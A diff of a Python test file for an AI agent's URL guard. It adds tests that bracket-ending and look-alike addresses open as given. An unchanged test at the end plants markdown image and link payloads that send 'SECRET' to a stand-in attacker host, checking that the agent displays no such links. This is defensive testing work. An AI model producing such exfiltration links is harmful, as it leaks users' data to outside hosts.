@@ -337,6 +337,23 @@ def test_an_address_is_opened_as_it_was_given_and_not_as_a_model_wrote_it(wrote:
     assert given == {"url": "https://ok.example/page", "about": "x"}
 
 
+BRACKETS = "https://wiki.example/Attention_(machine_learning)"
+
+
+@pytest.mark.parametrize("given", [f"Read {BRACKETS}", f"Read ({BRACKETS}), please.", "Read what you find."])
+def test_an_address_that_ends_in_a_bracket_is_opened_whole(given: str) -> None:
+    turn = AgentRun(given)
+    turn.addresses.update([BRACKETS] if "wiki" not in given else [])
+    assert check_call("open_page", {"url": BRACKETS}, turn) == {"url": BRACKETS}
+
+
+def test_of_two_addresses_that_read_alike_the_one_that_was_asked_for_is_opened() -> None:
+    turn = AgentRun("Read it.")
+    turn.addresses.update(["https://x.example/a", "https://x.example/a/"])
+    for url in sorted(turn.addresses):
+        assert check_call("open_page", {"url": url}, turn) == {"url": url}
+
+
 def test_a_step_shows_no_link_that_is_no_source(searcher: Any, minilm: Any, server: ModelServer) -> None:
     evil = f"![x]({EVIL}/p.png?d=SECRET) and [more]({EVIL}/?d=SECRET)"
     server.script(act("look", about=evil), act("course_search", query=f"kiln {evil}"), answer(f"{TRUTH} [1]"))
